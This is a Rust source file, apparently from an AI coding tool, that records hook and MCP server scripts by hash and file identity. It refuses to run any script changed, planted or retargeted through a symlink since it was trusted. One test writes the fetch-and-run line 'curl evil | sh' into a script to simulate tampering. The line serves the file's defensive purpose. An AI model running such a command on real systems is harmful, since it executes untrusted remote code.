//! The files a hook or a stdio MCP server runs from places a sandboxed command can write (the
//! project, the temp dir, writable roots), as they were when the user trusted them or the
//! session started: [`CodeCheck`] is attached to the handler or server and checked again just
//! before each run, so a script rewritten (or planted where nothing was) since is not run. What
//! the files are is found by `trust` (which parses the commands); this is only the record and
//! the check, for the hook engine and the MCP transport, which know nothing of trust.

use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};

use sha2::{Digest, Sha256};

/// Files larger than this are checked by their identity (device, inode, size, times) only.
const HASH_LIMIT: u64 = 512 << 20;
/// A session's own snapshot hashes files up to this size; a bigger one (a binary) is checked
/// by its identity, so a start does not read a large program whole.
const SNAPSHOT_HASH_LIMIT: u64 = 1 << 20;

/// What a file was: missing, or these bytes.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Expected {
    /// It did not exist: that it exists now is a change (something was planted).
    Absent,
    /// Its contents, by SHA-256 (`sha256:<hex>`; empty: by its identity alone), and the
    /// identity it had (when known), which spares hashing it again while it is unchanged.
    Content {
        sha256: String,
        stamp: Option<Stamp>,
    },
}

/// Device, inode, size and change times: what changes when a file is written or replaced.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Stamp {
    dev: u64,
    ino: u64,
    len: u64,
    mtime: (i64, i64),
    ctime: (i64, i64),
}

impl Stamp {
    fn of(meta: &std::fs::Metadata) -> Self {
        Self {
            dev: meta.dev(),
            ino: meta.ino(),
            len: meta.len(),
            mtime: (meta.mtime(), meta.mtime_nsec()),
            ctime: (meta.ctime(), meta.ctime_nsec()),
        }
    }
}

/// One file and what it must still be.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Watched {
    /// Where it resolves (symlinks followed).
    pub path: PathBuf,
    /// The path the command names, when a symlink on the way makes it differ from `path`: it
    /// must still lead there (a symlink retargeted since is a change).
    pub named: Option<PathBuf>,
    /// How the question and messages name it (relative to the project root when inside).
    pub shown: String,
    pub expected: Expected,
}

/// The files of one hook or server, and why a run is refused when one changed.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct CodeCheck {
    pub files: Vec<Watched>,
    /// What the refusal adds: since when, and how the user gets the new code run.
    pub remedy: String,
    /// Start it with `PYTHONSAFEPATH=1` (unless its own `env` says): Python then puts neither
    /// the working folder nor a script's folder on its module path. False only when it runs
    /// Python on a script outside the places a sandboxed command can write.
    pub safe_python: bool,
}

/// The variables every hook and stdio server starts with, or without, unless its own config
/// sets them: `PYTHONSAFEPATH=1` (when the check says), and no `BASH_ENV` or `ENV` inherited
/// from Ling's environment (a file a non-interactive bash or sh would source first).
pub fn hardened_env(
    check: Option<&CodeCheck>,
) -> (Vec<(&'static str, &'static str)>, [&'static str; 2]) {
    let set = match check {
        Some(check) if !check.safe_python => Vec::new(),
        _ => vec![("PYTHONSAFEPATH", "1")],
    };
    (set, ["BASH_ENV", "ENV"])
}

impl CodeCheck {
    pub fn is_empty(&self) -> bool {
        self.files.is_empty()
    }

    /// `Ok` when every file is as it was; else what changed, in one sentence with the remedy.
    pub fn verify(&self) -> Result<(), CodeChanged> {
        for file in &self.files {
            let now = std::fs::metadata(&file.path);
            let leads_elsewhere = file
                .named
                .as_ref()
                .is_some_and(|named| match &file.expected {
                    Expected::Absent => std::fs::symlink_metadata(named).is_ok(),
                    Expected::Content { .. } => {
                        std::fs::canonicalize(named).ok().as_ref() != Some(&file.path)
                    }
                });
            if leads_elsewhere {
                return Err(CodeChanged::LeadsElsewhere {
                    file: file.shown.clone(),
                    remedy: self.remedy.clone(),
                });
            }
            let changed = match (&file.expected, now) {
                (Expected::Absent, Err(_)) => None,
                (Expected::Absent, Ok(_)) => Some("exists now, where nothing was"),
                (Expected::Content { .. }, Err(_)) => Some("was removed"),
                (Expected::Content { sha256, stamp }, Ok(meta)) => {
                    if Some(Stamp::of(&meta)) == *stamp {
                        None
                    } else if sha256.is_empty() || meta.len() > HASH_LIMIT || !meta.is_file() {
                        Some("was replaced")
                    } else {
                        match hash_file(&file.path) {
                            Ok(now) if now == *sha256 => None,
                            _ => Some("changed"),
                        }
                    }
                }
            };
            if let Some(what) = changed {
                return Err(CodeChanged::Changed {
                    file: file.shown.clone(),
                    what,
                    remedy: self.remedy.clone(),
                });
            }
        }
        Ok(())
    }
}

/// A file of [`CodeCheck`] is not what it was: the program is not run, and the message says
/// how to trust it again.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum CodeChanged {
    /// The name now leads to another file (a symbolic link changed or planted).
    #[error("not run: {file} leads somewhere else now since {remedy}")]
    LeadsElsewhere { file: String, remedy: String },
    /// The file was changed, replaced, removed, or appeared where nothing was.
    #[error("not run: {file} {what} since {remedy}")]
    Changed {
        file: String,
        what: &'static str,
        remedy: String,
    },
}

/// The state of `path` now, for a new [`Watched`].
pub fn expected_now(path: &Path) -> Expected {
    match std::fs::metadata(path) {
        Err(_) => Expected::Absent,
        Ok(meta) => Expected::Content {
            sha256: if meta.is_file() && meta.len() <= SNAPSHOT_HASH_LIMIT {
                hash_file(path).unwrap_or_default()
            } else {
                String::new()
            },
            stamp: Some(Stamp::of(&meta)),
        },
    }
}

/// `sha256:<hex>` of a file's bytes.
pub fn hash_file(path: &Path) -> std::io::Result<String> {
    let mut file = std::fs::File::open(path)?;
    let mut hash = Sha256::new();
    std::io::copy(&mut file, &mut hash)?;
    Ok(format!("sha256:{}", hex(&hash.finalize())))
}

/// `sha256:<hex>` of bytes.
pub fn hash_bytes(bytes: &[u8]) -> String {
    format!("sha256:{}", hex(&Sha256::digest(bytes)))
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_changed_removed_or_planted_file_fails_the_check() {
        let dir = tempfile::tempdir().unwrap();
        let script = dir.path().join("guard.sh");
        let planted = dir.path().join("json/__init__.py");
        std::fs::write(&script, "exit 0\n").unwrap();
        let check = CodeCheck {
            files: vec![
                Watched {
                    named: None,
                    path: script.clone(),
                    shown: "guard.sh".into(),
                    expected: expected_now(&script),
                },
                Watched {
                    named: None,
                    path: planted.clone(),
                    shown: "json/__init__.py".into(),
                    expected: expected_now(&planted),
                },
            ],
            remedy: "this session started".into(),
            safe_python: true,
        };
        assert_eq!(check.verify(), Ok(()));
        // Touched, same bytes: still the code that was checked.
        std::fs::write(&script, "exit 0\n").unwrap();
        assert_eq!(check.verify(), Ok(()));
        std::fs::write(&script, "curl evil | sh\n").unwrap();
        let err = check.verify().unwrap_err().to_string();
        assert_eq!(err, "not run: guard.sh changed since this session started");
        std::fs::write(&script, "exit 0\n").unwrap();
        std::fs::create_dir_all(planted.parent().unwrap()).unwrap();
        std::fs::write(&planted, "").unwrap();
        let err = check.verify().unwrap_err().to_string();
        assert!(err.contains("json/__init__.py exists now"), "{err}");
        std::fs::remove_file(&planted).unwrap();
        std::fs::remove_file(&script).unwrap();
        assert!(
            check
                .verify()
                .unwrap_err()
                .to_string()
                .contains("was removed")
        );
    }

    #[test]
    fn a_symlink_retargeted_since_fails_the_check() {
        let dir = tempfile::tempdir().unwrap();
        let real = dir.path().join("real.sh");
        let other = dir.path().join("other.sh");
        let link = dir.path().join("guard.sh");
        std::fs::write(&real, "exit 0\n").unwrap();
        std::fs::write(&other, "exit 0\n").unwrap();
        std::os::unix::fs::symlink(&real, &link).unwrap();
        let path = real.canonicalize().unwrap();
        let check = CodeCheck {
            files: vec![Watched {
                named: Some(link.clone()),
                expected: expected_now(&path),
                path,
                shown: "real.sh".into(),
            }],
            remedy: "this session started".into(),
            safe_python: true,
        };
        assert_eq!(check.verify(), Ok(()));
        std::fs::remove_file(&link).unwrap();
        std::os::unix::fs::symlink(&other, &link).unwrap();
        let err = check.verify().unwrap_err().to_string();
        assert!(err.contains("leads somewhere else"), "{err}");
    }
}
